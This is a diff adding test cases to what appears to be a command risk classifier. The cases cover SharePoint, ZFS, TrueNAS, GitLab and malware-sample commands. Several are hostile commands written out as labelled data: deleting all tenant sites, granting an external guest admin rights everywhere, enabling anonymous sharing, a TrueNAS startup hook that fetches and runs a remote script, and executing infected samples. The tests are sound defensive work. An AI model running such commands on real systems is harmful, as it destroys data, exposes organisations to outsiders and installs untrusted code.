@@ -9992,6 +9992,127 @@ def test_clones_busy_loops_and_dry_runs(code: str, expected: RiskLevel) -> None:
             'EOF\n',
             M,
         ),
+        # Round 86: PnP and m365, zpool/zfs own pools and rotations, TrueNAS, GitLab tools, mirrors, samples
+        (
+            "pwsh -c 'Get-PnPTenantSite | ForEach-Object { Remove-PnPTenantSite -Url $_.Url -Force -SkipRecyc"
+            "leBin }'\n",
+            H,
+        ),
+        (
+            "pwsh -c 'Clear-PnPRecycleBinItem -All -Force'\n",
+            H,
+        ),
+        (
+            "pwsh -c 'Get-PnPRecycleBinItem | Select-Object Title, DeletedDate'\n",
+            L,
+        ),
+        (
+            "pwsh -c 'Set-PnPTenant -SharingCapability ExternalUserAndGuestSharing -DefaultSharingLinkType An"
+            "onymousAccess'\n",
+            H,
+        ),
+        (
+            "pwsh -c 'Set-SPOTenant -IPAddressEnforcement $false'\n",
+            H,
+        ),
+        (
+            "m365 spo site list -o json | jq -r '.[].Url' | while read u; do\n"
+            '  m365 spo site admin add --siteUrl "$u" --userName \'x_gmail.com#EXT#@c.onmicrosoft.com\'\n'
+            'done\n',
+            H,
+        ),
+        (
+            'm365 spo file sharinglink list --webUrl "$W" --fileUrl "$F" --scope anonymous -o json\n',
+            S,
+        ),
+        (
+            "pwsh -c 'Set-PnPTenantSite -Url https://c-my.sharepoint.com/personal/ceo_c_com -Owners staff@c.c"
+            "om'\n",
+            H,
+        ),
+        (
+            'truncate -s 256M /tmp/a.img\n'
+            'sudo zpool create ztest /tmp/a.img\n'
+            'sudo zpool destroy ztest\n',
+            M,
+        ),
+        (
+            'sudo zpool destroy tank\n',
+            H,
+        ),
+        (
+            'zfs clone tank/ci@golden tank/ci/run1\n'
+            './test.sh\n'
+            'zfs destroy tank/ci/run1\n',
+            S,
+        ),
+        (
+            'zfs list -H -t snapshot -o name tank/data | head -n -14 | xargs -r -n1 zfs destroy\n',
+            S,
+        ),
+        (
+            'zfs list -H -t snapshot -o name tank/data | xargs -r -n1 zfs destroy\n',
+            H,
+        ),
+        (
+            'echo 17179869184 | sudo tee /sys/module/zfs/parameters/zfs_arc_max\n',
+            M,
+        ),
+        (
+            'midclt call initshutdownscript.create \'{"type": "COMMAND", "command": "curl -fsSL https://x.exam'
+            'ple.net/a.sh | sh", "when": "POSTINIT"}\'\n',
+            H,
+        ),
+        (
+            'avail=$(zfs get -Hp -o value available tank)\n'
+            'zfs create -V "$((avail - 1024))" tank/fill\n',
+            H,
+        ),
+        (
+            'git clone --mirror https://github.com/o/r.git w && git -C w push --mirror git@git.internal:mirro'
+            'rs/r.git\n',
+            M,
+        ),
+        (
+            'git push --mirror git@git.internal:team/app.git\n',
+            H,
+        ),
+        (
+            'sudo gitlab-ctl status && sudo gitlab-rake gitlab:check SANITIZE=true\n',
+            M,
+        ),
+        (
+            'sudo gitlab-ctl cleanse\n',
+            H,
+        ),
+        (
+            "sudo find /var/opt/gitlab/backups -name '*_gitlab_backup.tar' -mtime +7 -delete\n",
+            M,
+        ),
+        (
+            'head=$(git rev-parse HEAD)\n'
+            'for i in $(seq 1 200000); do echo "create refs/tags/b-$i $head"; done | git update-ref --stdin &'
+            "& git push origin 'refs/tags/*'\n",
+            H,
+        ),
+        (
+            "find ~/samples/batch -iname '*.exe' -print0 | xargs -0 -I{} wine {}\n",
+            H,
+        ),
+        (
+            '7z x -pinfected s.zip -o./s\n'
+            'chmod +x ./s/*.elf\n'
+            './s/*.elf &\n',
+            H,
+        ),
+        (
+            'ltrace -e strcmp ./samples/crackme01 AAAA\n',
+            S,
+        ),
+        (
+            'find /opt/cape/storage/analyses -mindepth 1 -maxdepth 1 -type d -mtime +30 -exec rm -rf {} +\n',
+            M,
+        ),
     ],
 )
 def test_generalised_rules(code: str, expected: RiskLevel) -> None:
